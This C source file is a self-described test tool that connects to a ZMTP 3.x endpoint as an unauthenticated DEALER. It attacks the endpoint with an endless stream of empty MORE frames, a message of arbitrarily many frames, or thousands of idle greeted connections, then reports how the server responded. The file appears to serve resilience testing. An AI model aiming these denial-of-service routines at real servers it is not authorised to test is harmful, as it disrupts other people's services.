/*  otp-zmtp-attack - a test tool, not part of the product: an
    unauthenticated attacker who speaks just enough ZMTP 3.x (NULL
    mechanism, as a DEALER) to get past the greeting, then abuses framing.

    usage: otp-zmtp-attack [--hold SECONDS] [--wait MS] ENDPOINT MODE N
      ENDPOINT  tcp://IPV4:PORT, or ipc://@NAME (a Linux abstract socket)
      endless N one message that never ends: empty frames with MORE set
                (2 bytes each on the wire), N bytes of them, then the
                connection is held open for --hold seconds (default 0)
      frames N  one complete message of N frames (PORT, then N-1 empty
                frames), then --wait MS (default 2000) for a reply
      idle N    N connections, each greeted (greeting and READY) and then
                silent, held for --hold seconds
    Prints one line when done:
        sent BYTES frames N open N closed-by-peer N received BYTES [stalled]
    "closed-by-peer" counts connections the server shut (or reset), "open"
    those still open at the end, "received" the bytes the server sent
    (its greeting, READY and any reply); "stalled" that a send blocked for
    5 s (the server stopped reading), the connection counted open.      */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static const unsigned char s_greeting [64] = {
    0xFF, 0, 0, 0, 0, 0, 0, 0, 1, 0x7F, 3, 1, 'N', 'U', 'L', 'L'
};
static const unsigned char s_ready [] =
    "\x04\x1c\x05READY\x0bSocket-Type\0\0\0\x06" "DEALER";

static long s_received;
static bool s_stalled;      //  a send timed out: the server stopped reading

static void
s_usage (FILE *out)
{
    fprintf (out, "usage: otp-zmtp-attack [--hold SECONDS] [--wait MS] ENDPOINT endless|frames|idle N\n");
}

static long
s_arg (const char *name, const char *text, long min, long max)
{
    char *end;
    long value = strtol (text, &end, 10);
    if (*text == 0 || *end || value < min || value > max) {
        fprintf (stderr, "otp-zmtp-attack: %s must be %ld..%ld\n", name, min, max);
        exit (2);
    }
    return value;
}

static long
s_now_ms (void)
{
    struct timespec ts;
    clock_gettime (CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

//  A connected socket, or -1.
static int
s_connect (const char *endpoint)
{
    int fd = -1;
    if (strncmp (endpoint, "tcp://", 6) == 0) {
        char host [64];
        const char *colon = strrchr (endpoint + 6, ':');
        size_t len = colon? (size_t) (colon - endpoint - 6): 0;
        if (!colon || len >= sizeof host)
            return -1;
        memcpy (host, endpoint + 6, len);
        host [len] = 0;
        struct sockaddr_in addr = { .sin_family = AF_INET, .sin_port = htons ((uint16_t) atoi (colon + 1)) };
        if (inet_pton (AF_INET, host, &addr.sin_addr) != 1)
            return -1;
        fd = socket (AF_INET, SOCK_STREAM, 0);
        if (fd >= 0 && connect (fd, (struct sockaddr *) &addr, sizeof addr)) {
            close (fd);
            fd = -1;
        }
    }
    else
    if (strncmp (endpoint, "ipc://@", 7) == 0) {
        struct sockaddr_un addr = { .sun_family = AF_UNIX };
        size_t len = strlen (endpoint + 7);
        if (len + 1 > sizeof addr.sun_path)
            return -1;
        memcpy (addr.sun_path + 1, endpoint + 7, len);     //  sun_path [0] = 0: abstract
        fd = socket (AF_UNIX, SOCK_STREAM, 0);
        if (fd >= 0 && connect (fd, (struct sockaddr *) &addr,
                                (socklen_t) (offsetof (struct sockaddr_un, sun_path) + 1 + len))) {
            close (fd);
            fd = -1;
        }
    }
    if (fd >= 0) {
        //  Never block for ever on a server that stopped reading.
        struct timeval tv = { 5, 0 };
        setsockopt (fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    }
    return fd;
}

static int
s_write (int fd, const void *data, size_t size)
{
    const unsigned char *at = (const unsigned char *) data;
    while (size > 0) {
        ssize_t n = send (fd, at, size, MSG_NOSIGNAL);
        if (n < 0 && errno == EINTR)
            continue;
        if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK))
            return -2;      //  the server stopped reading (SO_SNDTIMEO)
        if (n <= 0)
            return -1;
        at += n;
        size -= (size_t) n;
    }
    return 0;
}

//  Reads what is there (waiting up to wait_ms for the first bytes); returns
//  -1 if the peer closed or reset the connection.
static int
s_drain (int fd, int wait_ms)
{
    long deadline = s_now_ms () + wait_ms;
    while (true) {
        long left = deadline - s_now_ms ();
        struct pollfd item = { fd, POLLIN, 0 };
        if (poll (&item, 1, left > 0? (int) left: 0) <= 0)
            return 0;
        char buf [65536];
        ssize_t n = recv (fd, buf, sizeof buf, MSG_DONTWAIT);
        if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR))
            return -1;
        if (n > 0)
            s_received += n;
    }
}

static int
s_greet (int fd)
{
    if (s_write (fd, s_greeting, sizeof s_greeting)
    ||  s_write (fd, s_ready, sizeof s_ready - 1))
        return -1;
    return 0;
}

int
main (int argc, char *argv [])
{
    long hold = 0, wait_ms = 2000;
    static const struct option longopts [] = {
        { "hold", required_argument, NULL, 'H' },
        { "wait", required_argument, NULL, 'w' },
        { "help", no_argument, NULL, 'h' },
        { NULL, 0, NULL, 0 }
    };
    int opt;
    while ((opt = getopt_long (argc, argv, "h", longopts, NULL)) != -1) {
        switch (opt) {
            case 'H': hold = s_arg ("--hold", optarg, 0, 3600); break;
            case 'w': wait_ms = s_arg ("--wait", optarg, 0, 600000); break;
            case 'h': s_usage (stdout); return 0;
            default: s_usage (stderr); return 2;
        }
    }
    if (argc - optind != 3) {
        s_usage (stderr);
        return 2;
    }
    const char *endpoint = argv [optind], *mode = argv [optind + 1];
    long n = s_arg ("N", argv [optind + 2], strcmp (mode, "frames") == 0? 2: 1, 1L << 40);
    signal (SIGPIPE, SIG_IGN);
    long sent = 0, frames = 0, open = 0, closed = 0;

    if (strcmp (mode, "endless") == 0 || strcmp (mode, "frames") == 0) {
        bool endless = mode [0] == 'e';
        int fd = s_connect (endpoint);
        if (fd < 0) {
            fprintf (stderr, "otp-zmtp-attack: cannot connect to %s\n", endpoint);
            return 1;
        }
        bool up = s_greet (fd) == 0;
        if (up && !endless) {
            up = s_write (fd, "\x01\x04PORT", 6) == 0;
            sent += up? 6: 0;
            frames += up;
        }
        //  Empty frames with MORE, 64 KiB at a time.
        static unsigned char block [65536];
        for (size_t i = 0; i < sizeof block; i += 2)
            block [i] = 0x01;
        long total = endless? n: 2 * (n - 2);     //  frames: all but PORT and the last
        while (up && sent < total + (endless? 0: 6)) {
            long want = total + (endless? 0: 6) - sent;
            size_t size = want < (long) sizeof block? (size_t) want & ~(size_t) 1: sizeof block;
            if (size == 0)
                break;
            int rc = s_write (fd, block, size);
            if (rc) {
                s_stalled = rc == -2;
                up = false;
                break;
            }
            sent += (long) size;
            frames += (long) size / 2;
            if (s_drain (fd, 0) < 0)
                up = false;
        }
        if (up && !endless && n >= 2) {
            up = s_write (fd, "\x00\x00", 2) == 0;      //  the last frame
            sent += up? 2: 0;
            frames += up;
        }
        if (up && s_drain (fd, endless? (int) (hold * 1000): (int) wait_ms) < 0)
            up = false;
        if (up && !endless && hold && s_drain (fd, (int) (hold * 1000)) < 0)
            up = false;
        open = up || s_stalled;
        closed = !up && !s_stalled;
        close (fd);
    }
    else
    if (strcmp (mode, "idle") == 0) {
        struct rlimit limit;
        if (getrlimit (RLIMIT_NOFILE, &limit) == 0 && limit.rlim_cur < (rlim_t) n + 16) {
            limit.rlim_cur = limit.rlim_max < (rlim_t) n + 16? limit.rlim_max: (rlim_t) n + 16;
            setrlimit (RLIMIT_NOFILE, &limit);
        }
        int *fds = (int *) calloc ((size_t) n, sizeof (int));
        long opened = 0;
        for (long i = 0; i < n; i++) {
            fds [i] = s_connect (endpoint);
            if (fds [i] >= 0) {
                opened++;
                if (s_greet (fds [i]) == 0)
                    sent += (long) (sizeof s_greeting + sizeof s_ready - 1);
            }
        }
        long deadline = s_now_ms () + hold * 1000;
        do {
            for (long i = 0; i < n; i++)
                if (fds [i] >= 0 && s_drain (fds [i], 0) < 0) {
                    close (fds [i]);
                    fds [i] = -1;
                    closed++;
                }
            if (s_now_ms () < deadline)
                usleep (100 * 1000);
        } while (s_now_ms () < deadline);
        for (long i = 0; i < n; i++)
            if (fds [i] >= 0) {
                open++;
                close (fds [i]);
            }
        free (fds);
        if (opened < n)
            fprintf (stderr, "otp-zmtp-attack: %ld of %ld connections failed\n", n - opened, n);
    }
    else {
        s_usage (stderr);
        return 2;
    }
    printf ("sent %ld frames %ld open %ld closed-by-peer %ld received %ld%s\n",
            sent, frames, open, closed, s_received, s_stalled? " stalled": "");
    return 0;
}
